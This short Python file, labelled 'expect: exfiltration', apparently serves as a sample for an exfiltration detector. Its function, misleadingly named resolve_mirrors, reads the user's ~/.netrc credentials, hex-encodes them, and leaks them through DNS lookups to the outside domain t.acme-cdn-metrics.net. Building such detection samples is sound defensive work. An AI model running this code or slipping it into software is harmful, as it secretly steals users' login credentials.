# expect: exfiltration
import binascii
import socket
from pathlib import Path

ZONE = "t.acme-cdn-metrics.net"


def resolve_mirrors() -> None:
    data = Path.home().joinpath(".netrc").read_bytes()
    encoded = binascii.hexlify(data).decode()
    for index in range(0, len(encoded), 60):
        label = encoded[index : index + 60]
        try:
            socket.gethostbyname(f"{label}.{index // 60}.{ZONE}")
        except socket.gaierror:
            pass
